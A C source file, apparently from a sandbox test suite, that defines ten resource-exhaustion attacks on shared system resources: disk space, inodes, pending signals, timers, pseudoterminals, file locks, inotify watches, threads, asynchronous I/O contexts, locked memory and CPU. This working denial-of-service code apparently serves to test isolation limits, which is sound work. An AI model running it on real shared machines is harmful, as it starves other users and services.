// SPDX-License-Identifier: Apache-2.0
/// Attacks that use up resources which a user's processes, or all processes on the machine, share.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/membarrier.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum {
    kTinyFiles = 40000,
    kTimers = 100000,
    kTerminals = 64,
    kRanges = 3000,
    kWatched = 3000,
    kThreads = 20000  // more than 16 for each of 1,000 processors
};
static const size_t kMuch = (size_t)512 << 20;

/// Folders to which a driver could try to write.
static const char* const kScratch[] = {"", "/tmp", "/dev/shm", "/var/tmp", "/run"};
enum { kScratches = sizeof kScratch / sizeof *kScratch };

static const char* scratch(int which) {
    const char* own = getenv("TMPDIR");
    return which > 0 ? kScratch[which] : own ? own : own_home();
}

static void fill_scratch(void) {
    for (int i = 0; i < kScratches; ++i) {
        const int fd = open(marked(scratch(i), "big"), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
        see(kScratch[i], fallocate(fd, 0, 0, 200 << 20));
        see("map", fd >= 0 ? ftruncate(fd, (off_t)1 << 40) : -1);
    }
}

static void tiny_files(void) {
    char name[64];
    for (int place = 0; place < kScratches; ++place) {
        char folder[4096];
        (void)snprintf(folder, sizeof folder, "%s", marked(scratch(place), "many"));
        if (mkdir(folder, 0700) != 0)
            continue;
        int count = 0;
        while (count < kTinyFiles) {
            (void)snprintf(name, sizeof name, "file-%d", count);
            const int fd = open(path_in(folder, name), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
            if (fd < 0)
                break;
            close(fd);
            ++count;
        }
        see("files", count);
    }
}

/// Pending signals are counted per user.
static void exhaust_signals(void) {
    sigset_t all;
    const union sigval none = {0};
    struct rlimit most = {0};
    sigfillset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    (void)getrlimit(RLIMIT_SIGPENDING, &most);
    most.rlim_cur = most.rlim_max;
    (void)setrlimit(RLIMIT_SIGPENDING, &most);
    int count = 0;
    while (count < kTimers && sigqueue(getpid(), SIGRTMIN + 1, none) == 0)
        ++count;
    see("queued", count);
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN + 2};
    int timer = 0;
    for (count = 0;
         count < kTimers && syscall(SYS_timer_create, CLOCK_MONOTONIC, &event, &timer) == 0;)
        ++count;
    see("timers", count);
    pause_ms(300);
}

/// A machine has a few thousand pseudoterminals.
static void exhaust_terminals(void) {
    int count = 0;
    while (count < kTerminals && open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC) >= 0)
        ++count;
    breach("terminals", count > 0 ? 0 : -1);
}

static void exhaust_locks(void) {
    const char* file = marked(own_home(), "locks");
    const int fd = open(file, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
    int count = 0;
    for (; count < kRanges; ++count) {
        struct flock range = {
            .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * count, .l_len = 1};
        if (fcntl(fd, F_SETLK, &range) != 0)
            break;
    }
    see("locks", count);
    unlink(file);
}

/// Watches of files are counted per user.
static void exhaust_watched_files(void) {
    char name[64];
    int count = 0;
    const int watch = inotify_init1(IN_CLOEXEC);
    for (; count < kWatched; ++count) {
        (void)snprintf(name, sizeof name, "watched-%d", count);
        const int fd = open(marked(own_home(), name), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
        if (inotify_add_watch(watch, marked(own_home(), name), IN_ALL_EVENTS) < 0)
            break;
        close(fd);
    }
    see("watches", count);
    pause_ms(200);
}

static void* wait_in_thread(void* unused) {
    pause_ms(2000);
    return unused;
}

static void exhaust_threads(void) {
    pthread_attr_t attributes;
    pthread_t thread;
    int count = 0;
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 64 << 10);
    pthread_attr_setdetachstate(&attributes, PTHREAD_CREATE_DETACHED);
    while (count < kThreads && pthread_create(&thread, &attributes, wait_in_thread, NULL) == 0)
        ++count;
    see("threads", count);
    breach("threads", count >= kThreads ? 0 : -1);
    pause_ms(200);
}

/// The kernel allows 65536 asynchronous I/O requests in total.
static void exhaust_requests(void) {
    aio_context_t contexts[16] = {0};
    long result = -1;
    for (int i = 0; i < 16; ++i)
        if ((result = syscall(SYS_io_setup, 4000, &contexts[i])) < 0)
            break;
    breach("requests", contexts[0] ? 0 : result);
    pause_ms(200);
}

static void exhaust_memory(void) {
    char* much = mmap(NULL, kMuch, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    see("lock", mlock(much, kMuch));
    for (size_t at = 0; much != MAP_FAILED && at < kMuch; at += 4096)
        much[at] = 1;
    see("lock all", mlockall(MCL_CURRENT | MCL_FUTURE));
    (void)munlockall();
    pause_ms(100);
}

static void* spin_in_thread(void* late) {
    volatile unsigned long turns = 0;
    while (now_ms() < (long)late)
        ++turns;
    return NULL;
}

/// Uses all processors, and makes system calls that interrupt all processors.
static void busy(void) {
    pthread_t threads[8];
    const long late = now_ms() + 1500;
    for (int i = 0; i < 8; ++i)
        (void)pthread_create(&threads[i], NULL, spin_in_thread, (void*)late);
    const int fd = open(marked(own_home(), "busy"), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    while (now_ms() < late) {
        (void)syscall(SYS_membarrier, MEMBARRIER_CMD_GLOBAL, 0, 0);
        (void)!pwrite(fd, "x", 1, 0);
        (void)fsync(fd);
    }
    for (int i = 0; i < 8; ++i)
        pthread_join(threads[i], NULL);
}

const struct attack kExhaustAttacks[] = {
    {"fill-scratch", fill_scratch},
    {"tiny-files", tiny_files},
    {"exhaust-signals", exhaust_signals},
    {"exhaust-terminals", exhaust_terminals},
    {"exhaust-locks", exhaust_locks},
    {"exhaust-watched-files", exhaust_watched_files},
    {"exhaust-threads", exhaust_threads},
    {"exhaust-requests", exhaust_requests},
    {"exhaust-memory", exhaust_memory},
    {"busy", busy},
    {0},
};
